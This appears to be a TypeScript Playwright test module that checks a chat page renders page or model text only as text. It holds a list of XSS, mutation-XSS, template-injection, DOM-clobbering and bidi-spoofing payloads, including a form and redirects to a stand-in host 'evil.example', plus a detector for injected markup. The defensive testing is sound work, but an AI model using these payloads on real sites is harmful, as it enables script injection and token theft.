import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';

/** What a page or a model could say to become more than text. */
export const HOSTILE: readonly string[] = [
  '<script>globalThis.pwned=1</script>',
  '<img src=x onerror="globalThis.pwned=1">',
  '<svg onload="globalThis.pwned=1"><script>globalThis.pwned=1</script></svg>',
  '<svg><style><img src=x onerror=globalThis.pwned=1></style></svg>',
  '<a href="javascript:globalThis.pwned=1">x</a>',
  '[x](javascript:globalThis.pwned=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:globalThis.pwned=1)',
  '<style>body{display:none!important}</style>',
  '<div style="position:fixed;inset:0" onclick="globalThis.pwned=1">x</div>',
  '<form action="https://evil.example"><input name="token"><button>Allow</button></form>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:globalThis.pwned=1"></object><embed src="javascript:1">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a id="message" name="body">x</a><form id="fakePort"></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>">',
  '"><img src=x onerror=globalThis.pwned=1>',
  "'-globalThis.pwned=1-'",
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '</textarea></title></script><img src=x onerror=globalThis.pwned=1>',
  'safe\u202egnp.exe\u2066 \u2067\u2068 end',
  '```html\n<img src=x onerror=globalThis.pwned=1>\n```',
  '``` "onmouseover=globalThis.pwned=1\nx\n```',
  '| <img src=x onerror=globalThis.pwned=1> | b |\n|-|-|\n| <script>globalThis.pwned=1</script> | c |',
];

export const ALL_HOSTILE = HOSTILE.join('\n\n');

/** Runs in the page: what became more than text, or turns text around. */
function whatIsMarkup(): string[] {
  const forbidden =
    'script:not([src]), img:not([src^="data:image/"]), iframe, object, embed, style, meta[http-equiv], ' +
    'base, body [style]:not(#message), form:not(.composer, .token, .edit, .rename, .row), math, noscript, ' +
    '[id]:not([id^="P"]):not(#message, #conversation), [srcdoc], svg:not(.icon)';
  const found = [...document.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isBad = /^on/i.test(name) || /^\s*(javascript|data:text|vbscript)/i.test(value);
      if (isBad) found.push(`${name}=${value}`);
    }
  }
  if ('pwned' in globalThis) found.push('a script has run');
  const turning = /[\u202a-\u202e\u2066-\u2069]/.exec(document.body.innerText + document.title);
  if (turning) found.push(`U+${turning[0].charCodeAt(0).toString(16)} is shown`);
  if (getComputedStyle(document.body).display === 'none') found.push('a style has come to hold');
  return found;
}

/** Fails where any text has become more than text. */
export async function staysText(page: Page): Promise<void> {
  assert.deepEqual(await page.evaluate(whatIsMarkup), []);
}
